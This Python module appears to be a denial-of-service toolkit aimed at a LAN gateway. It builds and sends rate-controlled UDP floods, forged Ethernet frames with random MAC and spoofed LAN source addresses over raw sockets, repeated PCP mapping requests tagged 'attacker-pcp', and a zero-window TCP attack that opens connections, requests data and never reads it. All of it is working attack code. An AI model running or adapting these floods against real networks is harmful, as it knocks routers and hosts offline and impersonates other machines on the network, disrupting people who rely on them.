"""Floods of a LAN host as fast as a program can send: prebuilt datagrams, and connections that read nothing.

Each function sends until ``until`` (monotonic seconds) and returns how many datagrams or connections it sent.
``rate``: the most a second. Standard library only; forged addresses need a raw socket.
"""

import random
import socket
import struct
import time
from collections.abc import Sequence
from contextlib import suppress
from ipaddress import IPv4Address, IPv4Network, IPv6Address

SLICE_S = 0.005
"""The interval over which the rate is kept, seconds."""
UDP, ETH_P_IP, ARP_COMPLETE = 17, 0x0800, 0x02
NONCE = b"attacker-pcp"
IPAddress = IPv4Address | IPv6Address
_random = random.Random(11)


def send_all(sender: socket.socket, messages: Sequence[bytes], rate: int, until: float) -> int:
    """Sends the messages in a circle over a connected (or bound packet) socket."""
    sent, begun = 0, time.monotonic()
    while (now := time.monotonic()) < until:
        due = int((now - begun) * rate) - sent
        if due <= 0:
            time.sleep(SLICE_S)
            continue
        for place in range(sent, sent + min(due, 1000)):
            with suppress(OSError):  # a full queue, or an ICMP error that came back
                sender.send(messages[place % len(messages)])
        sent += min(due, 1000)
    return sent


def flood(gateway: str, port: int, messages: Sequence[bytes], rate: int, until: float) -> int:
    """From our own address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect((gateway, port))
        return send_all(sender, messages, rate, until)


def natpmp_ask() -> bytes:
    """RFC 6886 section 3.2: the external address."""
    return bytes(2)


def pcp_map(own: str, internal: int, lifetime: int) -> bytes:
    """RFC 6887 section 11.1, for TCP, without a suggestion."""
    mapped = bytes(10) + b"\xff\xff"
    head = struct.pack("!BBHI", 2, 1, 0, lifetime) + mapped + IPv4Address(own).packed
    return head + NONCE + struct.pack("!B3xHH", 6, internal, 0) + mapped + bytes(4)


def pcp_refreshes(own: str) -> list[bytes]:
    """One mapping, renewed with another lifetime each time."""
    return [pcp_map(own, 6881, lifetime) for lifetime in range(600, 1600)]


def forged_frames(
    interface: str, gateway: str, gateway_mac: bytes, port: int, payload: bytes, macs: int, network: IPv4Network
) -> list[bytes]:
    """Ethernet frames from random addresses of the LAN. ``macs``: the number of MAC addresses; 1: our own."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((interface, 0))
        own = sock.getsockname()[4]
    sources = [own] if macs == 1 else [b"\x02" + _random.randbytes(5) for _ in range(macs)]
    hosts = list(network)[100:250]
    frames = []
    for number in range(max(4096, macs)):
        packet = ip_datagram(
            _random.choice(hosts), IPv4Address(gateway), _random.randrange(1024, 65536), port, payload
        )
        frames.append(gateway_mac + sources[number % macs] + struct.pack("!H", ETH_P_IP) + packet)
    return frames


def ip_datagram(source: IPAddress, target: IPAddress, source_port: int, port: int, payload: bytes) -> bytes:
    """An IP packet with a UDP datagram in it."""
    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
    if source.version == 6:  # where the UDP checksum may not be left out
        ends = source.packed + target.packed
        udp = (
            udp[:6]
            + struct.pack("!H", _checksum(ends + struct.pack("!II", len(udp), UDP) + udp) or 0xFFFF)
            + udp[8:]
        )
        return struct.pack("!IHBB", 6 << 28, len(udp), UDP, 64) + ends + udp
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, UDP, 0, source.packed, target.packed)
    return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + udp


def _checksum(head: bytes) -> int:
    head += bytes(len(head) % 2)
    total: int = sum(struct.unpack(f"!{len(head) // 2}H", head))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood_frames(interface: str, frames: Sequence[bytes], rate: int, until: float) -> int:
    """From other hosts' addresses, or from addresses that nobody has."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((interface, 0))
        return send_all(sender, frames, rate, until)


def mac_of(address: str, within_s: float = 10.0) -> bytes:
    """The hardware address of a neighbour that was spoken to before; its answer to ARP may still be on its way."""
    end = time.monotonic() + within_s
    while time.monotonic() < end:
        with open("/proc/thread-self/net/arp", encoding="ascii") as table:
            for line in table:
                fields = line.split()
                if fields[0] == address and int(fields[2], 16) & ARP_COMPLETE:
                    return bytes.fromhex(fields[3].replace(":", ""))
        time.sleep(0.01)
    raise LookupError(address)


def zero_windows(gateway: str, port: int, request: bytes, until: float, held: int = 100) -> int:
    """Asks for as much as there is over connections with the smallest window, and never reads a byte of it."""
    links: list[socket.socket] = []
    made = 0
    while time.monotonic() < until:
        link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        link.settimeout(1)
        try:
            link.connect((gateway, port))
            link.send(request * 8)
        except OSError:
            link.close()
        else:
            links.append(link)
        made += 1
        if len(links) > held:
            links.pop(0).close()
    for link in links:
        link.close()
    return made
